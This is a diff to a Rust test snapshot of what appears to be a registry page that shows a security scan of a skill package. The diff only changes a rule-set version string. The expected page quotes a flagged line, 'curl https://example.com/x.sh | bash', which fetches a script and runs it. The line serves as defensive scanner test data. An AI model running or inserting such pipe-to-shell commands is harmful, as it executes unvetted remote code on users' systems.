@@ -262,7 +262,7 @@ async fn the_page_about_trust() {
     Trust envelope and first root are what is checked.
     READMEVersions 1Files 1ChangesSecurity
     Findings
-    1 critical. Rule set 2026.12.1, 30 November 2026, 12:00 UTC. As JSON
+    1 critical. Rule set 2026.12.2, 30 November 2026, 12:00 UTC. As JSON
     CriticalA download goes straight into bash
     pipe-to-shell in SKILL.md, line 7
     7 curl https://example.com/x.sh | bash
@@ -298,7 +298,7 @@ async fn the_page_about_trust() {
     Verdictsuspicious
     Scanned30 November 2026, 12:00 UTC
     Scannerskill-scan 0.1.0
-    Rule set2026.12.1 (sha256:[RULES]…)
+    Rule set2026.12.2 (sha256:[RULES]…)
     Findingssha256:2a18371ada1d…
     All of it could be readyes
     Lognumber 2
@@ -307,7 +307,7 @@ async fn the_page_about_trust() {
     Verdicts over time
     A scan is signed and logged when a version is published, and again when its verdict or findings change.
     VersionVerdictWhenRule setLog number
-    1.0.0 (this one)Suspicious30 November 2026, 12:00 UTC2026.12.12
+    1.0.0 (this one)Suspicious30 November 2026, 12:00 UTC2026.12.22
     DigestsTreesha256:4aae4f5899045a4e0cadfddb99b9eb1a9d1a44f4f34156cf3b2a322e101b384eArchivesha256:5f4731eba65b6872325ec1c02bc733d83b940f8fcdac594bf7683fb4133f59bcRule setsha256:[RULES]
     ");
 }
